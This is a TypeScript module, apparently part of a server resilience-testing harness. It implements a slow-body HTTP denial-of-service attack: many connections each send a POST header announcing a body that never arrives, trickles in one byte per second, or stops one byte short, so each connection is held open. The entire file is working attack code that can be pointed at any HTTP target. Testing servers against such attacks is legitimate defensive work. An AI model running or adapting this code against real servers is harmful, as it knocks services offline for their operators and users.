// Calls over HTTP/1.1 whose body never comes, trickles, or comes but for its last byte; each on a connection of its own.

import { once } from 'node:events';
import { type Attack, keepOpen, wait } from '../attacker/attack.ts';
import { openSocket } from '../attacker/socket.ts';
import { tally } from '../attacker/tally.ts';

/** Options: `connections`, `path`, `bytes` of the body that is announced, `sends`: `nothing`, `trickle` or `all-but-one`. */
export const attack: Attack = async ({ target, options }) => {
  const { connections, path, bytes, sends } = options;
  const head =
    `POST ${path} HTTP/1.1\r\nHost: ${target.host}:${target.port}\r\n` +
    `Content-Type: application/json\r\nContent-Length: ${bytes}\r\n\r\n`;
  const body = Buffer.concat([Buffer.from('{"items":['), Buffer.alloc(Number(bytes), ' ')]).subarray(
    0,
    Number(bytes) - 1,
  );
  return (until) =>
    keepOpen(Number(connections), until, async () => {
      const socket = await openSocket(target, 'http/1.1');
      socket.resume();
      const closed = once(socket, 'close');
      tally('calls opened');
      socket.write(head);
      if (sends === 'all-but-one') socket.write(body);
      for (let at = 0; !until.aborted && !socket.destroyed; at++) {
        if (sends === 'trickle') socket.write(body.subarray(at, at + 1));
        await Promise.race([wait(1000, until), closed]);
      }
      socket.destroy();
    });
};
